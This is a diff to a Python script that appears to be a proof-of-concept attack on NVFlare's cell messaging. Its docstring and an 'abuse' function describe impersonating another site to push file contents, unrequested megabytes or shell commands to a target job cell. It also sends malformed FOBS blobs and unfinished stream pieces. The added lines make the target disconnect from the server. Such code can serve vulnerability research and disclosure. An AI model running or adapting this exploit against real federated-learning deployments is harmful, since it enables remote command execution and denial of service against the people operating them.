@@ -5,7 +5,7 @@ connects as a part of its own site and sends the job cell ``TARGET`` a call as i
 ``ORIGIN`` had: the bytes in the file ``WHAT``; or so many MB as an answer to nothing;
 or the shell command ``WHAT``, as the server could;
 or, for a number with a colon before it, messages that make NVFlare connect to that
-port, store a file, and wait for their rest.
+port, store a file, leave the server, and wait for their rest.
 NVFlare's own classes do all the rest.
 """
 
@@ -19,7 +19,12 @@ from nvflare.apis.utils.decomposers import flare_decomposers
 from nvflare.collab.runtime.defs import CALL_PROTOCOL_VERSION as VERSION
 from nvflare.collab.runtime.defs import MSG_CHANNEL, MSG_TOPIC, CallHeaderKey
 from nvflare.fuel.f3.cellnet.cell import Cell
-from nvflare.fuel.f3.cellnet.defs import CellChannel, Encoding, MessageHeaderKey
+from nvflare.fuel.f3.cellnet.defs import (
+    CellChannel,
+    CellChannelTopic,
+    Encoding,
+    MessageHeaderKey,
+)
 from nvflare.fuel.f3.cellnet.utils import new_cell_message
 from nvflare.fuel.f3.message import Message
 from nvflare.fuel.f3.streaming.stream_const import (
@@ -50,6 +55,7 @@ def abuse(cell, site, target, port):
     encoding = {StreamHeaderKey.PAYLOAD_ENCODING: Encoding.FOBS}
     unreadable = Message(encoding, b"unreadable")
     cell.send_blob(CellChannel.SERVER_COMMAND, "submit_update", target, unreadable)
+    send(CellChannel.CELLNET, CellChannelTopic.Bye, target, Message())
     time.sleep(1.0)
     for number in range(UNFINISHED):
         piece = {
